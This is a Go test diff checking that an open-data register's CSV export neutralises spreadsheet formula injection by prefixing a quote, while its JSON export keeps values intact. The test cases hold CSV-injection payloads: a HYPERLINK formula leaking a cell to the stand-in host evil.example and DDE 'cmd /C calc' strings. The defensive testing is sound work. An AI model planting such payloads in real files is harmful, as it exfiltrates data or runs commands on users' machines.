@@ -192,3 +192,68 @@ func TestOpenDataExportPar29(t *testing.T) {
 		}
 	})
 }
+
+// TestSpreadsheetSafeOWASPCSVInjection: a cell that begins with =, +, -, @, tab or carriage
+// return (and NUL, OWASP ASVS 1.2.10) gets a single quote in front (OWASP, CSV Injection); any
+// other cell is unchanged.
+func TestSpreadsheetSafeOWASPCSVInjection(t *testing.T) {
+	for _, tc := range []struct{ name, cell, want string }{
+		{"equals: a formula", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
+		{"equals: DDE", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"minus", "-2+3", "'-2+3"},
+		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"tab", "\t=1+1", "'\t=1+1"},
+		{"carriage return", "\r=1+1", "'\r=1+1"},
+		{"NUL", "\x00=1+1", "'\x00=1+1"},
+		{"a formula character inside is text already", "Portal = gateway", "Portal = gateway"},
+		{"a leading space", " =1+1", " =1+1"},
+		{"empty", "", ""},
+		{"Kazakh text", "Ақпараттық жүйе", "Ақпараттық жүйе"},
+		{"a date", "2026-10-20T06:00:00Z", "2026-10-20T06:00:00Z"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := register.SpreadsheetSafe(tc.cell); got != tc.want {
+				t.Fatalf("SpreadsheetSafe(%q) = %q, want %q", tc.cell, got, tc.want)
+			}
+		})
+	}
+}
+
+// TestExportCSVIsSafeInASpreadsheetOWASPCSVInjection: the open-data CSV neutralises every cell a
+// user's text can begin (object, owner, developer, act, recall), while the JSON export keeps each
+// value exactly as signed.
+func TestExportCSVIsSafeInASpreadsheetOWASPCSVInjection(t *testing.T) {
+	s := newSigner(t, "key-1")
+	d := draft("2026/00001", `=HYPERLINK("http://evil.example","Open")`, "120540001238")
+	d.OwnerName, d.Developer = "+7 701 000 0000 LLP", "@Developer"
+	d.Act.Number = "-1"
+	d.Status = register.Recalled
+	d.Recall = &register.Recall{Ground: "\t=cmd|' /C calc'!A0", Paragraph: "§45(2)", DecidedAt: issued.Add(time.Hour)}
+	e := revise(t, s, register.Entry{}, d, issued)
+	rows, err := csv.NewReader(bytes.NewReader(register.ExportCSV([]register.Entry{e}, issued))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows: %v", len(rows), err)
+	}
+	col := func(name string) string { return rows[1][slices.Index(register.CSVHeader, name)] }
+	for name, want := range map[string]string{
+		"objectName": `'=HYPERLINK("http://evil.example","Open")`, "ownerName": "'+7 701 000 0000 LLP", "developer": "'@Developer",
+		"actNumber": "'-1", "recallGround": "'\t=cmd|' /C calc'!A0", "ownerBin": "120540001238", "number": "2026/00001",
+	} {
+		if got := col(name); got != want {
+			t.Errorf("%s: %q, want %q", name, got, want)
+		}
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
+			t.Errorf("column %s begins with %q: a spreadsheet evaluates it", register.CSVHeader[i], cell[:1])
+		}
+	}
+	var doc register.Export
+	if err := json.Unmarshal(register.ExportJSON([]register.Entry{e}, issued), &doc); err != nil {
+		t.Fatal(err)
+	}
+	if got := doc.Entries[0].Entry; got.ObjectName != d.ObjectName || got.OwnerName != d.OwnerName || got.Recall.Ground != d.Recall.Ground {
+		t.Fatalf("the JSON export changed the values: %+v", got)
+	}
+}
